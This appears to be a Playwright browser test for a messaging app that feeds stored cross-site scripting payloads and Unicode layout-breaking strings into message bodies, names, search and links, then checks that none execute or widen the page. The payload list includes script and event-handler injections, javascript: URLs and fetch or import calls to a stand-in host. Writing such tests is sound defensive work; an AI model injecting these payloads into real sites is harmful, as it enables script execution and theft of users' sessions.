package dev.duologue.app.browser;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Route;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/// Texts that try to run, to break out of their place or to break the page, in every place where people's text is shown.
@ExtendWith(Shared.class)
class HostileTextTest {
    private static final boolean DEEP = Boolean.getBoolean("duologue.deep");
    private static final int PAYLOADS = DEEP ? 500 : 100;
    private static final int IN_A_THREAD = 50;
    private static final long SEED = 20_260_219;
    private static final List<String> DEEDS = List.of(
            "alert(1)",
            "parent.alert(1)",
            "fetch('//xss.invalid')",
            "import('//xss.invalid/x.js')",
            "eval('alert(1)')");
    private static final List<String> SHELLS = List.of(
            "<script>%s</script>",
            "<img src=x onerror=\"%s\">",
            "<svg onload=%s>",
            "\"><script>%s</script>",
            "'><img src=x onerror='%s'>",
            "</textarea><script>%s</script>",
            "</title><svg/onload=%s>",
            "<iframe srcdoc=\"<script>%s</script>\">",
            "<a href=\"javascript:%s\">x</a>",
            "javascript:%s",
            "https://a.example/\"onmouseover=\"%s",
            "https://a.example/'onfocus='%s'autofocus='",
            "{{%s}}",
            "${%s}",
            "<math><mi xlink:href=\"data:x,<script>%s</script>\">",
            "<details open ontoggle=%s>",
            "<!--><script>%s</script>",
            "<style>@import '//xss.invalid';</style><b onclick=%s>",
            "<base href=//xss.invalid/><x onload=%s>",
            "data:text/html,<script>%s</script>",
            "mailto:a@b.example?\"><script>%s</script>",
            "`${%s}`",
            "\\u003cscript>%s</script>",
            "&lt;script&gt;%s&lt;/script&gt;",
            "<duologue-inbox token-url='//xss.invalid' onload=%s>",
            "<template><script>%s</script>",
            "vbscript:%s",
            "java\tscript:%s",
            "http://user:pass@xss.invalid/%s",
            "https://аррӏе.example/%s");
    private static final List<String> BOMBS = List.of(
            "Z̸̢̛͓̩̈́̑".repeat(100),
            "\u202Egnp.exe\u202C",
            "\u2066\u2067".repeat(200),
            "W".repeat(1_900),
            "👨‍👩‍👧‍👦".repeat(250),
            "ﷺ﷽".repeat(300),
            "\u200B".repeat(500) + "x",
            "[".repeat(900),
            "x\n".repeat(900),
            "https://a.example/" + "a/".repeat(800),
            "\u0E47\u0E49".repeat(500),
            "\uFFF9\uFFFA\uFFFB",
            "🏳️‍🌈".repeat(3));

    private final AtomicInteger escaped = new AtomicInteger();

    @Test
    void noTextRunsOrLeavesItsPlace(Chromium chromium) {
        List<String> payloads = payloads(PAYLOADS);
        try (House house = new House();
                Device ana = chromium.device(house, "ana", Look.DESK)) {
            ana.before("globalThis.__ran = 0; globalThis.alert = () => { globalThis.__ran++; };");
            ana.context().route(Pattern.compile("^[a-z]+://([^/]*@)?xss\\.invalid.*"), this::caught);
            List<String> threads = fill(house, payloads);
            Tab tab = ana.open("/messages").ready();
            check(tab);
            for (String thread : threads) {
                tab.go(thread).ready();
                assertThat(tab.articles()).hasCount(Math.min(IN_A_THREAD, payloads.size()));
                check(tab);
            }
            search(tab, payloads);
            for (String page :
                    List.of("/people", "/people/m1", "/admin/messaging", "/signin?next=" + "%22%3E%3Cscript%3E")) {
                check(tab.go(page));
            }
            plain(ana, threads);
            System.out.printf(
                    "hostile texts run: %d of %d in body, name, search and link, seed %d%n",
                    escaped.get(), payloads.size(), SEED);
            assertThat(escaped).hasValue(0);
            assertThat(chromium.mistakes()).isEmpty();
        }
    }

    /// So many hostile texts, always the same.
    static List<String> payloads(int number) {
        Random random = new Random(SEED);
        List<String> all = new ArrayList<>(BOMBS);
        while (all.size() < number) {
            String shell = SHELLS.get(all.size() % SHELLS.size());
            String deed = DEEDS.get(random.nextInt(DEEDS.size()));
            String text = shell.replace("%s", deed);
            all.add(random.nextBoolean() ? text : "see " + text + " https://a.example/?q=" + random.nextInt(99));
        }
        return all;
    }

    private static List<String> fill(House house, List<String> payloads) {
        List<String> threads = new ArrayList<>();
        for (int at = 0; at < payloads.size(); at++) {
            String sender = "m" + at / IN_A_THREAD;
            String path = House.path(house.say(sender, "ana", payloads.get(at)));
            if (at % IN_A_THREAD == 0) {
                threads.add(path);
            }
            String name = payloads.get(at).replaceAll("\\p{Cc}", " ").strip();
            house.person(
                    "n" + at,
                    name.substring(0, Math.min(60, name.length())),
                    name.substring(0, Math.min(20, name.length())));
        }
        for (int thread = 0; thread < threads.size(); thread++) {
            house.person("m" + thread, SHELLS.get(thread).replace("%s", "alert(1)"), "<b>role</b>");
        }
        return threads;
    }

    private void search(Tab tab, List<String> payloads) {
        tab.go("/messages").ready();
        for (String wanted : payloads.stream()
                .filter(one -> one.length() < 190)
                .limit(DEEP ? 40 : 6)
                .toList()) {
            tab.page.locator(".find input").fill(wanted);
            assertThat(tab.page.locator(".scroll")).hasAttribute("aria-busy", "false");
        }
        check(tab);
    }

    /// The same without our scripts, as the server writes it.
    private void plain(Device ana, List<String> threads) {
        ana.context().route(Pattern.compile(".*/duologue/assets/.*\\.js"), Route::abort);
        for (String path : Stream.concat(threads.stream(), Stream.of("/messages", "/messages/search?q=script"))
                .toList()) {
            Tab tab = ana.open(path);
            check(tab);
            tab.page.close();
        }
    }

    private void check(Tab tab) {
        escaped.addAndGet(tab.script("globalThis.__ran").getAsInt());
        assertThat(tab.script("""
                [document, ...[...document.querySelectorAll('*')].flatMap((one) => one.shadowRoot ?? [])]
                  .flatMap((root) => [...root.querySelectorAll('a[href], iframe, base, object, embed')])
                  .filter((one) => !one.href || !/^(https?|mailto):/.test(one.href)).map((one) => one.outerHTML).join()""").getAsString()).isEmpty();
        assertThat(tab.script("document.documentElement.scrollWidth - innerWidth")
                        .getAsInt())
                .as("nothing makes the page wider than the window")
                .isLessThanOrEqualTo(0);
    }

    private void caught(Route route) {
        escaped.incrementAndGet();
        route.abort();
    }
}
